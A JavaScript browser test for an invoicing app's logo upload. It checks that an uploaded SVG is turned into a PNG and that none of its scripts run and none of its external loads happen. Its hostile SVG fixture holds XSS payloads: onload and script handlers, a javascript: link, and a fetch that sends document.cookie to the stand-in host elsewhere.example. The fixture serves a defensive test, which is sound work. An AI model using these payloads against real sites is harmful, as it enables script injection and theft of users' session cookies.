// The firm's logo as a drawing: printed as dots; what a hostile drawing asks for never happens.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { newProfile, visiting } from './harness.mjs';
import { goTo } from './places.mjs';
import { button, seesDemo } from './steps.mjs';
import { say } from './words.mjs';

const BLUE = '<circle cx="60" cy="20" r="18" fill="#0b5a9b"/>';
/** It runs, asks other machines, reads our page, and is a circle beside all that. */
const HOSTILE = `<?xml version="1.0"?><?xml-stylesheet href="https://elsewhere.example/style.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 120 40" width="120" height="40"
  onload="window.hacked = 1">
<script>window.hacked = 1; top.hacked = 1; fetch('https://elsewhere.example/' + document.cookie)</script>
<script href="https://elsewhere.example/script.js"/>
<style>@import url(https://elsewhere.example/more.css); circle { stroke: url(https://elsewhere.example/paint.svg#a) }</style>
<image href="https://elsewhere.example/pixel.png" width="9" height="9"/>
<use xlink:href="https://elsewhere.example/part.svg#a"/>
<a xlink:href="javascript:window.hacked = 1">${BLUE}</a><set attributeName="onmouseover" to="window.hacked = 1"/></svg>`;
const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

const chooses = (page, name, mimeType, buffer) =>
  page.locator('input[type=file][accept*="svg"]').setInputFiles({ name, mimeType, buffer: Buffer.from(buffer) });

/** The colour of the middle of the logo on screen, and its size in dots. */
const seen = (page) => page.locator('img.logo').evaluate(async (image) => {
  await image.decode();
  const canvas = document.createElement('canvas');
  [canvas.width, canvas.height] = [image.naturalWidth, image.naturalHeight];
  const pen = canvas.getContext('2d');
  pen.drawImage(image, 0, 0);
  return { size: [canvas.width, canvas.height], middle: [...pen.getImageData(canvas.width / 2, canvas.height / 2, 1, 1).data] };
});

test('a drawing becomes the printed logo, and runs nothing, loads nothing', async () => {
  await visiting(newProfile(), {}, async (visit) => {
    const { page } = visit;
    await visit.sees(say('ui-nothing-leaves'));
    await seesDemo(visit, 'fr');
    await goTo(visit, 'donnees/societe');
    await page.locator('input[type=file][accept*="svg"]').waitFor({ state: 'attached' });
    const src = () => page.locator('img.logo').getAttribute('src');
    await chooses(page, 'logo.svg', 'image/svg+xml', HOSTILE);
    await page.waitForFunction(() => document.querySelector('img.logo')?.src.startsWith('data:image/png'));
    const { size, middle } = await seen(page);
    assert.deepEqual(size, [1200, 400]);
    assert.deepEqual(middle, [0x0b, 0x5a, 0x9b, 255]);
    assert.equal(await page.evaluate(() => window.hacked), undefined);
    assert.deepEqual(visit.elsewhere, []);
    // What is no drawing leaves the logo as it is.
    const before = await src();
    await chooses(page, 'not.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><circle');
    await visit.sees(say('invoices-firm-logo-wrong'));
    assert.equal(await src(), before);
    await page.locator('form.firm-form').evaluate((form) => form.requestSubmit());
    await visit.sees(say('ui-issuer-saved'));
    // What is kept is the picture: the engine, and whatever prints, never see the drawing.
    await page.reload();
    await page.locator('img.logo').waitFor();
    assert.equal(await src(), before);
    await chooses(page, 'logo.png', 'image/png', Buffer.from(PNG, 'base64'));
    await page.waitForFunction((start) => document.querySelector('img.logo')?.src === start, `data:image/png;base64,${PNG}`);
    assert.ok(await button(page, 'invoices-edit-clear').first().isVisible());
  });
});
